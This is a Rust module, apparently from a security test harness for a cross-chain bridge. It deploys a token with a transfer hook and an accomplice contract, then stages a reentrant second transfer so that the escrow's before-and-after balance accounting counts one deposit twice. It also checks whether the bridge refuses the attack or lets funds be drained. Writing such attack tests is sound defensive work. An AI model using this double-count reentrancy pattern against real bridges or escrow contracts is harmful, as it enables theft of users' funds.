//! An attack from within a token: an honest token that tells its senders before it moves, and a sender who then sends once
//! more.
//!
//! What arrived is what counts, by the escrow's balance before and after. Between the two the thief sends again: then what
//! arrived by the second transfer is counted for both.

use super::{arena::Arena, heist::LIFE_SECS, outcome::Outcome};
use crate::{
    contracts::{Accomplice, HookedToken, Transfer},
    draft::Artifact,
    end::End,
    site::Role,
    tracker::Side,
    wallet::Wallet,
};
use alloy::{
    primitives::{Address, U256},
    sol_types::{SolCall, SolValue},
};
use anyhow::Result;

const TOKEN: &str = include_str!("../../../../contracts/artifacts/HookedToken.json");
const ACCOMPLICE: &str = include_str!("../../../../contracts/artifacts/Accomplice.json");
/// What each of the two transfers sends.
const AMOUNT: u64 = 1_000_000;

/// A transfer within a transfer.
pub(super) async fn reentrant_token(arena: &Arena<'_>) -> Result<Outcome> {
    let (south, attacker) = (arena.end(Side::South), arena.attacker(Side::South)?);
    let names = ("Token that tells", "TELL").abi_encode_params();
    let token = attacker.deploy(Artifact::parse(TOKEN)?.code(), &names).await?;
    let accomplice = deploy_accomplice(&attacker).await?;
    let funds = HookedToken::mintCall {
        account: accomplice,
        amount: U256::from(2 * AMOUNT),
    };
    attacker.call(token, funds.abi_encode()).await?;

    let timeout = attacker.now().await? + LIFE_SECS;
    let value = (token, U256::from(AMOUNT));
    let message = south.transfer_over(&south.client, value, attacker.address, timeout);
    let send = step(south.transfer, Transfer::sendTransferCall { message });
    let approval = HookedToken::approveCall {
        spender: south.transfer,
        value: U256::MAX,
    };
    let meanwhile = Accomplice::prepareCall { step: send.clone() };
    let steps = vec![
        step(token, HookedToken::listenCall {}),
        step(token, approval),
        step(accomplice, meanwhile),
        send,
    ];
    let run = Accomplice::runCall { steps };
    if let Some(rule) = arena.refusal(Side::South, accomplice, run.abi_encode()).await? {
        return Ok(Outcome::Refused(rule));
    }
    judge(south, token).await
}

/// Whether more left for the other chain than the escrow got.
async fn judge(south: &End, token: Address) -> Result<Outcome> {
    let provider = south.wallet(Role::Attacker)?.provider;
    let transfer = Transfer::new(south.transfer, &provider);
    let book = transfer.getHomeBook(south.client.clone(), token).call().await?;
    let (left, arrived) = (U256::from(book.locked), south.escrowed(token).await?);
    Ok(if left > arrived {
        Outcome::Succeeded(format!(
            "{left} left for the other chain, {arrived} were paid for it"
        ))
    } else {
        Outcome::Idle(format!("{left} left, {arrived} were paid"))
    })
}

/// A contract that does several things in one transaction.
pub(super) async fn deploy_accomplice(owner: &Wallet) -> Result<Address> {
    owner.deploy(Artifact::parse(ACCOMPLICE)?.code(), &[]).await
}

/// One of these things.
pub(super) fn step(target: Address, call: impl SolCall) -> Accomplice::Step {
    Accomplice::Step {
        target,
        data: call.abi_encode().into(),
    }
}
